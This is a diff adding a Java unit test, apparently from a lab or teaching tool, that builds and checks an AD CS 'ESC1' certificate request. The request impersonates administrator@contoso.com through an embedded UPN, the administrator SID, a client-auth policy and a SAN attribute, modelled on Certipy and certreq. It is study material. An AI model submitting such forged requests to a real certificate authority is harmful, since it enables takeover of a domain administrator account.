@@ -60,4 +60,36 @@ class KeyAndRequestTest {
                 .filter(n -> n.getTagNo() == GeneralName.dNSName).map(n -> n.getName().toString()).toList();
         assertEquals(List.of("server1.internal.contoso.com", "server.contoso.com"), names);
     }
+
+    /**
+     * What Certipy's {@code req -upn -sid -application-policies} and {@code certreq -attrib "SAN:..."} put in a request, read back
+     * by {@code openssl req -text}, as a student checks an attack's request before sending it.
+     */
+    @Test
+    void anAttackersRequestCarriesTheUpnTheSidUrlTheApplicationPoliciesAndTheSanAttribute() throws Exception {
+        KeyPair key = KeyAndRequest.generateKey(template("RSA", 2048), 0);
+        CertificateRequest asked = CertificateRequest.forTemplate("ESC1").upn("administrator@contoso.com")
+                .sid("S-1-5-21-1-2-3-500").applicationPolicies(List.of("1.3.6.1.5.5.7.3.2"))
+                .sanAttribute("upn=administrator@contoso.com");
+        byte[] der = KeyAndRequest.csr(key, "CN=mallory", List.of(), asked);
+        java.nio.file.Path file = java.nio.file.Files.createTempFile("attack", ".der");
+        try {
+            java.nio.file.Files.write(file, der);
+            Process openssl = new ProcessBuilder("openssl", "req", "-inform", "DER", "-in", file.toString(), "-noout", "-text")
+                    .redirectErrorStream(true).start();
+            String text = new String(openssl.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
+            assertEquals(0, openssl.waitFor(), text);
+            assertTrue(text.contains("URI:tag:microsoft.com,2022-09-14:sid:S-1-5-21-1-2-3-500"), "the SID as the SAN URL:\n" + text);
+            assertTrue(text.contains("othername:") && text.contains("administrator@contoso.com"), "the UPN as otherName:\n" + text);
+            assertTrue(text.contains("1.3.6.1.4.1.311.21.10"), "the Application Policies extension:\n" + text);
+            assertTrue(text.contains("1.3.6.1.4.1.311.13.2.1"), "the name-value pair attribute:\n" + text);
+        } finally {
+            java.nio.file.Files.deleteIfExists(file);
+        }
+        PKCS10CertificationRequest csr = new PKCS10CertificationRequest(der);
+        org.bouncycastle.asn1.ASN1Sequence pair = org.bouncycastle.asn1.ASN1Sequence.getInstance(
+                csr.getAttributes(new org.bouncycastle.asn1.ASN1ObjectIdentifier("1.3.6.1.4.1.311.13.2.1"))[0].getAttrValues().getObjectAt(0));
+        assertEquals("SAN", pair.getObjectAt(0).toString());
+        assertEquals("upn=administrator@contoso.com", pair.getObjectAt(1).toString());
+    }
 }
